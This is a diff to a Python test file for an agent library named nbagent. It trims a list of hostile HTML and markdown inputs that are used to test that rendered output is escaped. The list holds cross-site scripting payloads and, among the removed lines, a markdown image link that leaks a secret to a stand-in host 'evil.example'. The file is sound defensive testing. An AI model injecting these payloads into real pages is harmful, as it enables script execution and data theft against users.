@@ -9,10 +9,11 @@ from nbagent import Agent, FunctionCall, LLMResponse, ScriptedProvider, Trace, U
 from nbagent.errors import ConfigurationError
 
 HOSTILE = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![leak](http://evil.example/?secret)",
-    "[x](javascript:alert(1))", "</pre></div></details><svg onload=alert(1)>", '"><iframe srcdoc="x">',
-    "<style>@import url(http://evil.example)</style>",
-]  # fmt: skip
+    "<script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "</pre></div><svg onload=alert(1)>",
+    '"><iframe src=x>',
+]
 
 
 def mean(column: str) -> float:
@@ -67,7 +68,6 @@ async def test_html_has_the_same_content(trace):
     places = [text.index(part) for part in told]
     assert places == sorted(places)
     assert "<strong>4.2</strong>" in page
-    assert page.count("<details ") == 4
     assert "1,200 in" in text
 
 
